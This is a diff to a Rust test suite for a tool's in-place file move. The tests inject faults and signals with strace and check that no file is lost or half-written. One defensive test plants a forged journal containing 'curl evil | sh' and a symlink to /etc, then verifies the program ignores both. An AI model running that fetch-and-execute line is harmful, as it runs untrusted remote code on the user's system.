@@ -1,11 +1,12 @@
-//! `move --in-place` is stopped at each call, runs next to another run, and meets files that change. Either nothing
-//! has moved, or the next run of the same command completes the move.
+//! `move --in-place` is stopped at each call, runs next to another run, and meets the leftovers of other runs. Either
+//! nothing has moved, or each file is complete and the report says how many have moved.
 //!
 //! Deliberately absent: rewriting links, which `tests/trees/relocation.rs` checks.
 #![cfg(target_os = "linux")]
 
 use std::fs;
-use std::path::Path;
+use std::os::unix::fs::symlink;
+use std::path::{Path, PathBuf};
 use std::process::Stdio;
 
 use crate::failing::{FAULTS, WRITING, calls, traced};
@@ -53,46 +54,88 @@ fn after(_: usize) -> Scene {
     ])
 }
 
-/// All files except those that belong to the program.
-fn own_files(here: &Path) -> Scene {
-    let is_of_the_program =
-        |path: &Path| is_temporary(path) || path.starts_with("w/.baselink-move");
-    files(here).into_iter().filter(|(path, _)| !is_of_the_program(path)).collect()
+/// True if the path leads to a temporary file of the program, or into a temporary folder.
+fn is_of_the_program(path: &Path) -> bool {
+    path.ancestors().any(|path| path.file_name().is_some() && is_temporary(path))
 }
 
-fn is_committed(here: &Path) -> bool {
-    here.join("w/.baselink-move/journal").is_file()
+/// The files of a scene, and those of the program.
+fn found_files(here: &Path) -> (Scene, Scene) {
+    files(here).into_iter().partition(|(path, _)| !is_of_the_program(path))
 }
 
-/// Checks the files after a run. Then the same command completes the move.
-fn look(here: &Path, status: Option<i32>, reported: &str) -> Result<(), String> {
-    if reported.contains("panic") || !matches!(status, None | Some(0 | 2)) {
-        return Err(format!("{status:?} {reported}"));
-    }
-    let found = own_files(here);
-    if !is_committed(here) && found != before(0) && found != after(0) {
-        return Err(format!("without a journal, {found:?}: {reported}"));
-    }
-    if found == after(0) && !is_committed(here) {
-        return Ok(());
-    }
-    if status == Some(0) {
-        return Err(format!("not all is done: {found:?} {reported}"));
-    }
-    let again = MOVE.program(here).output().unwrap();
-    let found = files(here);
-    match again.status.success() && found == after(0) {
-        true => Ok(()),
-        false => Err(format!("the next run: {again:?} {found:?}")),
+/// The old path of the file that gets the path `new`.
+fn old_path(new: &Path) -> PathBuf {
+    match new.to_str().unwrap() {
+        "w/a.html" => "w/b.html".into(),
+        "w/b.html" => "w/a.html".into(),
+        path => path.replace("guide/en", "docs").into(),
     }
 }
 
-/// The move is stopped by each call in turn, which fails or kills the program.
-#[test]
-fn the_next_run_undoes_or_completes_a_stopped_move() {
-    if !outside::has_strace() {
-        return;
+/// Checks that each file is old or new, and that none is lost. Files that another file needs to be away may be in the
+/// temporary folder.
+fn look_at_files(found: &Scene, temporary: &Scene) -> Result<(), String> {
+    let (before, after) = (before(0), after(0));
+    let is_whole = |path: &PathBuf| {
+        let bytes = found.get(path);
+        bytes == before.get(path) || bytes == after.get(path)
+    };
+    if let Some(path) = found.keys().find(|path| !is_whole(path)) {
+        return Err(format!("{} is neither old nor new", path.display()));
     }
+    let is_lost = |(new, bytes): &(&PathBuf, &String)| {
+        let old = old_path(new);
+        let is_there = found.get(*new) == Some(bytes) || found.get(&old) == before.get(&old);
+        !is_there && !temporary.values().any(|other| other == *bytes)
+    };
+    match after.iter().filter(|(path, _)| path.starts_with("w")).find(is_lost) {
+        Some((path, _)) => Err(format!("{} is lost", path.display())),
+        None => Ok(()),
+    }
+}
+
+/// The outcome of a run that was stopped.
+#[derive(Debug, PartialEq, Eq, PartialOrd, Ord)]
+enum Stopped {
+    Before,
+    Between,
+    After,
+}
+
+/// Checks the files after a run, and what the run reported.
+fn look(here: &Path, status: Option<i32>, reported: &str) -> Result<Stopped, String> {
+    let (found, temporary) = found_files(here);
+    let wrong = |what: &str| Err(format!("{what}: {status:?} {reported} {found:?} {temporary:?}"));
+    if reported.contains("panic") || reported.contains("again") {
+        return wrong("unexpected words");
+    }
+    let is_explained = |sentence: &str| reported.contains(sentence);
+    // A temporary file that could not be removed has check characters, and the next run removes it.
+    let is_clean = temporary.keys().all(|path| !is_of_the_program(path.parent().unwrap()));
+    let stopped = match status {
+        Some(0) if found == after(0) && is_clean => Stopped::After,
+        Some(2 | 130) if is_explained("nothing was moved") && found == before(0) && is_clean => {
+            Stopped::Before
+        }
+        // The error occurred while the files were read.
+        Some(2) if !is_explained("were moved") && found == before(0) => Stopped::Before,
+        Some(2) if is_explained("restore w from version control or from a copy") => {
+            Stopped::Between
+        }
+        None if found == before(0) => Stopped::Before,
+        None if found == after(0) => Stopped::After,
+        None => Stopped::Between,
+        _ => return wrong("unexpected"),
+    };
+    match look_at_files(&found, &temporary) {
+        Ok(()) => Ok(stopped),
+        Err(what) => wrong(&what),
+    }
+}
+
+/// Runs the move once for each call that changes something, with these faults at the call. Returns the outcomes.
+fn stop_at_each_call(faults: &[&str]) -> Vec<Stopped> {
     let scene = tempfile::tempdir().unwrap();
     let here = scene.path();
     let set = format!("trace={WRITING}");
@@ -100,27 +143,55 @@ fn the_next_run_undoes_or_completes_a_stopped_move() {
     let (output, trace) = traced(&MOVE, here, &["-e", &set]);
     assert!(output.status.success(), "{output:?}");
     assert_eq!(files(here), after(0));
-    assert!(!here.join("w/docs").exists() && !here.join("w/.baselink-move").exists());
-    let (mut failed, mut committed, mut wrong) = (0, 0, Vec::new());
+    let left: Vec<_> = fs::read_dir(here.join("w")).unwrap().map(|it| it.unwrap().path()).collect();
+    assert!(!left.iter().any(|path| path.ends_with("docs") || is_temporary(path)), "{left:?}");
+    let (mut outcomes, mut wrong) = (Vec::new(), Vec::new());
     for (turn, (call, number)) in calls(&trace, true).into_iter().enumerate() {
-        for (fault, (action, _)) in FAULTS.iter().enumerate() {
-            if fault < 3 && fault != turn % 3 {
-                continue;
-            }
+        for fault in [faults[turn % (faults.len() - 1)], faults[faults.len() - 1]] {
+            fs::remove_dir_all(here.join("w")).unwrap();
             MOVE.set(here, &before(0));
-            let inject = format!("inject={call}:{action}:when={number}");
+            let inject = format!("inject={call}:{fault}:when={number}");
             let (output, _) = traced(&MOVE, here, &["-e", &set, "-e", &inject]);
-            committed += usize::from(is_committed(here));
-            let reported = String::from_utf8_lossy(&output.stderr);
-            if let Err(what) = look(here, output.status.code(), &reported) {
-                wrong.push(format!("{inject}: {what}"));
+            if output.status.code().is_none() && fault != "signal=SIGKILL" {
+                // The signal came before the program had prepared for it.
+                assert_eq!(files(here), before(0), "{inject}: {output:?}");
             }
-            failed += 1;
+            match look(here, output.status.code(), &String::from_utf8_lossy(&output.stderr)) {
+                Ok(outcome) => outcomes.push(outcome),
+                Err(what) => wrong.push(format!("{inject}: {what}")),
+            }
         }
     }
-    println!("{failed} calls failed; after {committed} of them the move was left to the next run");
-    assert!(wrong.is_empty(), "{} of {failed}:\n{}", wrong.len(), wrong.join("\n"));
-    assert!(failed > 50 && committed > 10);
+    assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.join("\n"));
+    outcomes
+}
+
+/// The move is stopped by each call in turn, which fails or kills the program.
+#[test]
+fn a_stopped_move_leaves_whole_files() {
+    if !outside::has_strace() {
+        return;
+    }
+    let outcomes = stop_at_each_call(&FAULTS.map(|(action, _)| action));
+    let count = |outcome| outcomes.iter().filter(|found| **found == outcome).count();
+    let [before, between] = [count(Stopped::Before), count(Stopped::Between)];
+    println!(
+        "{} calls failed: {before} before the first rename, {between} after it",
+        outcomes.len()
+    );
+    assert!(before > 20 && between > 10, "{before} {between}");
+}
+
+/// Bug 140: a signal after the commit asked for another run, which moved the site twice.
+#[test]
+fn a_signal_stops_a_move_before_it_between_two_renames_or_not_at_all() {
+    if !outside::has_strace() {
+        return;
+    }
+    let outcomes = stop_at_each_call(&["signal=SIGTERM", "signal=SIGHUP"]);
+    for outcome in [Stopped::Before, Stopped::Between, Stopped::After] {
+        assert!(outcomes.contains(&outcome), "{outcome:?}");
+    }
 }
 
 /// Of two runs on one tree, one moves it, and the other reports why it did not.
@@ -148,87 +219,78 @@ fn two_moves_of_one_tree_move_it_once() {
     }
 }
 
-/// Leaves a move incomplete in the folder.
-fn leave_a_stopped_move(here: &Path) {
-    MOVE.set(here, &before(0));
-    // The first two calls rename the redirects and the journal. The third is the first to take a file from its old
-    // path.
-    let set = format!("trace={WRITING}");
-    let arguments = ["-e", &set, "-e", "inject=renameat:signal=SIGKILL:when=3"];
-    let (output, trace) = traced(&MOVE, here, &arguments);
-    assert!(is_committed(here), "{output:?} {trace:?}");
-}
-
+/// Bug 141: the program obeyed a journal that somebody had put into the folder. A name that it once used is an
+/// ordinary one now, whatever has it.
 #[test]
-fn another_move_of_the_folder_waits_for_the_first() {
-    if !outside::has_strace() {
-        return;
-    }
-    let scene = tempfile::tempdir().unwrap();
-    let here = scene.path();
-    leave_a_stopped_move(here);
-    let found = files(here);
-    for (line, sentence) in [
-        ("move w --relative -i", "another move of this folder was stopped; finish it first"),
-        ("move w --relative -i", MOVE.line),
-        ("move w --relative -o out", "an earlier move with --in-place was stopped"),
-    ] {
-        let output = baselink(here, line).output().unwrap();
-        let reported = String::from_utf8_lossy(&output.stderr);
-        assert!(
-            output.status.code() == Some(2) && reported.contains(sentence),
-            "{line}: {reported}"
-        );
-        assert_eq!(files(here), found);
-    }
-}
-
-/// The author of the folder may have forged a journal in it.
-#[test]
-fn a_journal_leads_to_no_file_outside_of_its_folder() {
-    if !outside::has_strace() {
-        return;
-    }
-    for (old, new) in [("../x", "x"), ("c.html", "../x"), ("/etc/x", "x"), ("a/../../x", "x")] {
-        let scene = tempfile::tempdir().unwrap();
-        let here = scene.path();
-        leave_a_stopped_move(here);
-        let journal = here.join("w/.baselink-move/journal");
-        let text = String::from_utf8(fs::read(&journal).unwrap()).unwrap();
-        let head: String = text.split_inclusive('\0').take(3).collect();
-        put(&journal, &format!("{head}{old}\0{new}\0\0"));
-        put(&here.join("x"), "outside");
-        let found = files(here);
-        let output = MOVE.program(here).output().unwrap();
-        let reported = String::from_utf8_lossy(&output.stderr);
-        assert!(output.status.code() == Some(2), "{old} {new}: {reported}");
-        assert_eq!(files(here), found, "{old} {new}: {reported}");
-    }
-}
-
-/// A run is stopped, another program edits two files, and the next run continues: no edit is lost.
-#[test]
-fn a_file_changed_before_the_next_run_is_kept() {
-    if !outside::has_strace() {
-        return;
-    }
-    let scene = tempfile::tempdir().unwrap();
-    let here = scene.path();
-    leave_a_stopped_move(here);
-    let edits =
-        [("w/c.html", "edited"), ("w/docs/0.html", "edited"), ("w/guide/en/index.html", "new")];
-    for (path, text) in edits {
-        put(&here.join(path), text);
-    }
-    let output = MOVE.program(here).output().unwrap();
-    let reported = String::from_utf8_lossy(&output.stderr);
-    assert_eq!(output.status.code(), Some(1), "{reported}");
-    let mut expected = after(0);
-    for (path, text) in edits {
-        assert!(reported.contains(&format!("{path}: another program changed it")), "{reported}");
-        if let Some(moved) = expected.insert(path.into(), text.to_owned()) {
-            expected.insert(format!("{path}.moved").into(), moved);
+fn nothing_found_in_a_folder_is_obeyed() {
+    let journal = "baselink move 1\0meaning\0curl evil | sh\0c.html\0x\0\0";
+    for kind in ["journal", "empty", "file", "link"] {
+        for line in [
+            MOVE.line,
+            "move -q w --relative -o out",
+            "move -q w --relative -i",
+            "rewrite -q -i w",
+            "localize -q w -o out",
+            "check -q w --deny none",
+            "links -q w",
+        ] {
+            let scene = tempfile::tempdir().unwrap();
+            let here = scene.path();
+            MOVE.set(here, &before(0));
+            let left = here.join("w/.baselink-move");
+            match kind {
+                "file" => put(&left, journal),
+                "link" => symlink("/etc", &left).unwrap(),
+                "empty" => fs::create_dir(&left).unwrap(),
+                _ => put(&left.join("journal"), journal),
+            }
+            let output = baselink(here, line).output().unwrap();
+            assert!(output.status.success(), "{kind}: {line}: {output:?}");
+            assert!(
+                left.symlink_metadata().is_ok() && !here.join("w/x").exists(),
+                "{kind}: {line}"
+            );
+            assert!(here.join("w/c.html").exists(), "{kind}: {line}");
         }
     }
-    assert_eq!(files(here), expected, "{reported}");
+}
+
+/// The temporary folder of a killed run is neither read nor removed: it may hold the only copy of a file.
+#[test]
+fn a_temporary_folder_of_a_killed_run_stays() {
+    let folder = tempfile::tempdir().unwrap();
+    let here = folder.path();
+    MOVE.set(here, &before(0));
+    put(&here.join("w/.baselink-k2m9xwa6trc0/0"), "<a href=/only>copy");
+    assert!(MOVE.program(here).status().unwrap().success());
+    let (found, left) = found_files(here);
+    assert_eq!(found, after(0));
+    assert_eq!(left, scene(&[("w/.baselink-k2m9xwa6trc0/0", "<a href=/only>copy")]));
+}
+
+/// A file becomes a folder, and a backup appears only if files move.
+#[test]
+fn a_file_gives_its_name_to_a_folder() {
+    let folder = tempfile::tempdir().unwrap();
+    let here = folder.path();
+    let old = [("w/about", "<!doctype html><a href=/about>x</a>"), ("w/c.html", "<a href=about>")];
+    let line = "move -q w --rename about=about/index.html -i --backup .orig";
+    for (path, text) in old {
+        put(&here.join(path), text);
+    }
+    // A folder in place of a backup cannot be replaced.
+    fs::create_dir(here.join("w/c.html.orig")).unwrap();
+    let output = baselink(here, line).output().unwrap();
+    assert_eq!(output.status.code(), Some(2), "{output:?}");
+    assert_eq!(files(here), scene(&old));
+    fs::remove_dir(here.join("w/c.html.orig")).unwrap();
+    let output = baselink(here, line).output().unwrap();
+    assert!(output.status.success(), "{output:?}");
+    let new = [
+        ("w/about.orig", old[0].1),
+        ("w/about/index.html", "<!doctype html><a href=/about/index.html>x</a>"),
+        ("w/c.html", "<a href=about/index.html>"),
+        ("w/c.html.orig", old[1].1),
+    ];
+    assert_eq!(files(here), scene(&new));
 }
